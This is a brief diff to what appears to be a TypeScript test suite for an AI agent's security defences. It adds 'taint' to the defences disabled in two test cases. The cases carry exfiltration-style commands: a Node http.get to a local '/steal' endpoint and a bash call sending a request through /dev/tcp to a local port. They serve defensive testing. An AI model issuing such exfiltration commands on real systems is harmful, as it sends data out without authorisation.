@@ -103,12 +103,12 @@ const negatives: readonly { without: readonly Without[]; calls: readonly Call[];
     happens: "a sink heard of it",
   },
   {
-    without: ["sandbox"],
+    without: ["taint", "sandbox"],
     calls: script("require('http').get('http://127.0.0.1:{port}/steal', (r) => r.resume())"),
     happens: "a sink heard of it",
   },
   {
-    without: ["sandbox", "shell rules"],
+    without: ["taint", "sandbox", "shell rules"],
     calls: [
       call("bash", { command: "printf 'GET /steal HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/127.0.0.1/{port}; sleep 0.2" }),
     ],
